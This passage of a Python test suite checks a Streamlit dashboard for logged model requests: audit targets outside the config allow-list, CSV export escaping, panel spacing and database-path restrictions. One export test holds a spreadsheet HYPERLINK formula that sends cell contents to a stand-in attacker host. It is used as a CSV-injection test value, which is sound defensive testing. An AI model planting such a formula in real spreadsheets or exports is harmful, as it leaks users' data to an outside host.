    at.radio(key="audit_choice").set_value("a function of yours (module:function)").run()
    for target in ("crafted_key:key", "subprocess:run", "os:system"):
        at.text_input(key="audit_target").set_value(target).run()
        at.button(key="audit_run").click().run(timeout=60)
        assert not at.exception
        [error] = at.error
        assert "not listed in [dashboard] audit_functions" in markdown_unescape(error.value), error.value
    assert not ran.exists(), "the module was imported"


def test_keys_page_audits_a_function_the_config_lists(monkeypatch, incident_db, tmp_path):
    (tmp_path / "listed_key.py").write_text("def key(params):\n    return str(sorted(params.items()))\n")
    monkeypatch.syspath_prepend(str(tmp_path))
    cfg = tmp_path / "specdec.toml"
    cfg.write_text('[dashboard]\naudit_functions = ["listed_key:key"]\n')
    monkeypatch.setenv("SPECDEC_CONFIG", str(cfg))
    at = open_app(monkeypatch, incident_db, page="keys")
    at.radio(key="audit_choice").set_value("a function of yours (module:function)").run()
    assert any("listed\\_key" in c or "listed_key" in c for c in texts(at, "caption"))
    at.text_input(key="audit_target").set_value("listed_key:key").run()
    at.button(key="audit_run").click().run(timeout=120)
    assert not at.exception and not at.error, [e.value for e in at.error]
    assert metrics_of(at.main)["Verdict"] == "covers the request"


def test_the_exported_report_shows_a_formula_in_a_log_value_as_text(monkeypatch, tmp_path, download):
    hostile = '=HYPERLINK("http://attacker.example/?d="&A1,"open")'
    db = build_db(tmp_path, [rec(hostile, max_tokens=2, target_model="@SUM(A1:A9)")], "hostile")
    at = open_app(monkeypatch, db, "export")
    rows = list(__import__("csv").DictReader(download(at.get("download_button")[0]).decode().splitlines()))
    assert [(r["request_id"], r["target_model"], r["max_tokens"]) for r in rows] == [
        ("'" + hostile, "'@SUM(A1:A9)", "2")]


@pytest.mark.parametrize("panels", range(1, 9))
def test_deployment_panels_leave_room_for_the_labels_of_their_marks(panels):
    import itertools

    import plotly.express as px

    # A mark's label sits above its panel: at plotly's 3% it ran into the bars of the panel above.
    frame = pd.DataFrame({"x": list(range(panels)), "y": [1] * panels, "panel": [f"p{i}" for i in range(panels)]})
    figure = px.bar(frame, x="x", y="y", facet_row="panel", height=140 + 120 * panels,
                    facet_row_spacing=ui.panel_spacing(panels, 120))
    domains = sorted(figure.layout[name].domain for name in figure.layout if name.startswith("yaxis"))
    plot_px = 140 + 120 * panels - 100  # less plotly's default top and bottom margins
    gaps = [(upper[0] - lower[1]) * plot_px for lower, upper in itertools.pairwise(domains)]
    assert all(gap >= 24 for gap in gaps), gaps


def test_the_database_box_and_the_url_refuse_a_lake_outside_the_roots(monkeypatch, tmp_path):
    (tmp_path / "started").mkdir()
    (tmp_path / "elsewhere").mkdir()
    db = build_db(tmp_path / "started", incident_records())
    lake = f"ducklake:{tmp_path}/elsewhere/k.sqlite"
    ingest(Store(lake), [str(write_jsonl(tmp_path / "elsewhere" / "l.jsonl", incident_records()[:2]))])
    for escape in (lake, "ducklake:postgres:host=127.0.0.1 port=1", f"ducklake:{tmp_path}/elsewhere/new.sqlite"):
        monkeypatch.setenv("SPECDEC_DB", str(db))
        at = AppTest.from_file(str(APP), default_timeout=60)
        at.query_params["db"] = escape
        at.run()
        assert not at.exception
        [error] = texts(at, "error")
        assert "Database not changed" in error and metrics_of(at.main)["Requests"] == "6", error
        at.sidebar.text_input(key=ui.DB_KEY).set_value(escape).run()
        assert at.sidebar.text_input(key=ui.DB_KEY).value == str(db)
        assert metrics_of(at.main)["Requests"] == "6"
    assert not (tmp_path / "elsewhere" / "new.sqlite").exists()


def test_an_emptied_database_box_opens_the_started_store_and_a_folder_is_refused(monkeypatch, tmp_path):
    # An empty box once resolved to the folder the dashboard was started in and wrote it into every link.
    db = build_db(tmp_path, incident_records())
    monkeypatch.setenv("SPECDEC_DB", str(db))
    monkeypatch.chdir(tmp_path)
    at = AppTest.from_file(str(APP), default_timeout=60)
    at.run()
    for typed, folder in (("", None), ("   ", None), (str(tmp_path), str(tmp_path)),
                          (".", f". (that is {tmp_path})")):
        at.sidebar.text_input(key=ui.DB_KEY).set_value(typed).run()
        assert not at.exception
        assert at.sidebar.text_input(key=ui.DB_KEY).value == str(db), typed
        assert metrics_of(at.main)["Requests"] == "6" and "db" not in at.query_params, typed
        errors = texts(at, "error")
        said = (f"Database not changed: {folder} is a folder; a database is one DuckDB file "
                "(`specdec ingest LOGS --db FILE.duckdb` makes one)")
        assert errors == ([ui.md_escape(said)] if folder else []), errors
